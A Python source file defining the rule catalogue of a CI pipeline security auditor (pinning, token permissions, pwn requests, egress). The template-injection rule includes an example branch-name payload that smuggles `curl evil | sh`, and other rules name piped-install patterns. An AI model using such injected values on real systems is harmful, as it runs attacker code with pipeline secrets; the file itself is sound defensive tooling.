"""The catalogue of audit-ci findings: id, default severity, why it matters, how to fix,
and the closest zizmor audit (for users who run both).

Rules are data: the SARIF `tool.driver.rules`, the docs and the table renderer all read this
one dict, so a finding id can never appear without its help text.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Rule:
    id: str
    title: str
    severity: str
    why: str
    fix: str
    zizmor: str = ""


_RULES = [
    Rule("unpinned-action", "Action not pinned to a full commit SHA", "high",
         "A tag or branch can be moved to another commit after you reviewed it; that is how "
         "tj-actions/changed-files (2025) and aquasecurity/trivy-action (2026) shipped "
         "credential stealers to every workflow that used a tag. GitHub-owned actions "
         "(actions/*, github/*) are reported at low severity.",
         "Pin `uses:` to the 40-character commit SHA of a reviewed release, with the version "
         "in a comment (`@<sha> # v1.2.3`); let Dependabot or Renovate update it.",
         "unpinned-uses"),
    Rule("unpinned-reusable-workflow", "Reusable workflow not pinned to a full commit SHA",
         "high",
         "A called workflow runs with the caller's secrets (and all of them with `secrets: "
         "inherit`); a moved tag changes that code silently.",
         "Reference the workflow at a full commit SHA.", "unpinned-uses"),
    Rule("unpinned-image", "Container image not pinned by digest", "medium",
         "Image tags are mutable: the Trivy images 0.69.4-0.69.6 and `latest` on Docker Hub "
         "served an infostealer in March 2026. Job containers, services, `docker://` steps, "
         "`docker run` in scripts and GitLab `image:` all run inside the job with its "
         "secrets. Scanner images are reported at high severity.",
         "Reference the image by digest (`name:tag@sha256:<64 hex>`), updated by a bot.",
         "unpinned-images"),
    Rule("unpinned-include", "GitLab include not pinned", "medium",
         "A remote include without `integrity:`, or a project/component include at a branch "
         "or tag, pulls pipeline code that can change without a change in this repository.",
         "Pin project and component includes to a commit SHA; add `integrity: sha256-...` to "
         "remote includes, or vendor the file."),
    Rule("runtime-tool-install", "Tool installed at run time without pinning", "high",
         "`curl … | sh`, `wget -O- … | bash`, `go install …@latest`, an unversioned scanner "
         "from a package manager, or a `latest` download run whatever the server returns at "
         "that moment, with the job's secrets in reach. Trivy's own install script piped "
         "from the network is the reference case.",
         "Download a fixed version and verify it before running it (sha256sum -c against a "
         "checksum committed to the repository, or cosign/attestation verification); or use "
         "an action or image pinned by SHA/digest.", ""),
    Rule("long-lived-aws-key", "Long-lived AWS access key in reach of a job", "high",
         "An IAM user access key (AWS_ACCESS_KEY_ID/AWS_SECRET_ACCESS_KEY) in a job's "
         "environment or inputs is readable by every step and every tool in that job; a "
         "backdoored scanner exfiltrates it and it keeps working from anywhere until someone "
         "deletes it. Critical when the job also runs third-party code by a mutable "
         "reference, or when the key is written in the file.",
         "Use OIDC: `permissions: id-token: write` and aws-actions/configure-aws-credentials "
         "with `role-to-assume` (GitLab: `id_tokens` + `assume-role-with-web-identity`), a "
         "least-privilege role and short sessions; delete the IAM user key.", ""),
    Rule("permissions-missing", "No `permissions:` block: default token permissions",
         "medium",
         "Without `permissions:` the GITHUB_TOKEN gets the repository or organisation "
         "default, which is read-write on older repositories: every step, including "
         "third-party code, can push commits, tags and releases.",
         "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant "
         "more per job only where needed.", "excessive-permissions"),
    Rule("permissions-write-all", "`permissions: write-all`", "high",
         "Grants the GITHUB_TOKEN write access to every scope (contents, packages, "
         "actions, id-token...), to every step of the job.",
         "List only the scopes the job needs, each at the lowest level.",
         "excessive-permissions"),
    Rule("permissions-broad", "Broad token permissions (`read-all`, workflow-level writes)",
         "low",
         "`read-all` grants every scope; write scopes granted at the top of a workflow reach "
         "every job, "
         "including jobs that run third-party code and never needed them; `id-token: write` "
         "there lets every job mint cloud credentials.",
         "Set `permissions: {}` at workflow level and grant each scope in the one job that "
         "needs it.", "excessive-permissions"),
    Rule("dangerous-trigger", "Workflow runs with secrets on events from forks", "medium",
         "`pull_request_target`, `workflow_run` and `issue_comment` run in the base "
         "repository's context with its secrets and a write token, on events anyone can "
         "cause (a fork's pull request, a comment).",
         "Use `pull_request` where possible; otherwise never check out or execute the "
         "pull request's code in that workflow, and keep its permissions minimal.",
         "dangerous-triggers"),
    Rule("untrusted-checkout", "Privileged workflow checks out untrusted code", "critical",
         "A `pull_request_target`/`workflow_run`/`issue_comment` workflow that checks out "
         "the pull request's head runs attacker code (build scripts, package hooks, config "
         "read by tools) with the base repository's secrets: the 'pwn request'. This is how "
         "Trivy's own repository lost the token used in March 2026.",
         "Do not check out the head in a privileged workflow; split into an unprivileged "
         "`pull_request` workflow plus a privileged one that only consumes its artifacts.",
         "dangerous-triggers"),
    Rule("template-injection", "Attacker-controlled expression expanded into a script",
         "high",
         "`${{ github.event.* }}` is pasted into the script text before the shell runs, so a "
         "pull request title or branch name like `a\"; curl evil | sh; \"` becomes code.",
         "Pass the value through an environment variable (`env: TITLE: ${{ "
         "github.event.pull_request.title }}`) and use \"$TITLE\" in the script.",
         "template-injection"),
    Rule("no-egress-restriction", "Job with secrets has no egress restriction", "medium",
         "A job that holds secrets can send them anywhere: the Trivy stealer exfiltrated to "
         "typosquatted domains. Blocking egress except an allowlist stops the exfiltration "
         "even when the malicious code runs.",
         "Add step-security/harden-runner (pinned by SHA) as the first step with "
         "`egress-policy: block` and an `allowed-endpoints` list, or run on self-hosted "
         "runners behind an egress proxy.", ""),
    Rule("known-bad-version", "Reference to a compromised version", "critical",
         "The workflow references an action, tool or image version that a published "
         "advisory lists as compromised, or a tag/branch that resolved to a malicious "
         "commit during the incident.",
         "Follow the advisory: move to a clean version pinned by SHA/digest and rotate every "
         "secret the job could read if it ran during the window.", "known-vulnerable-actions"),
]

RULES: dict[str, Rule] = {r.id: r for r in _RULES}
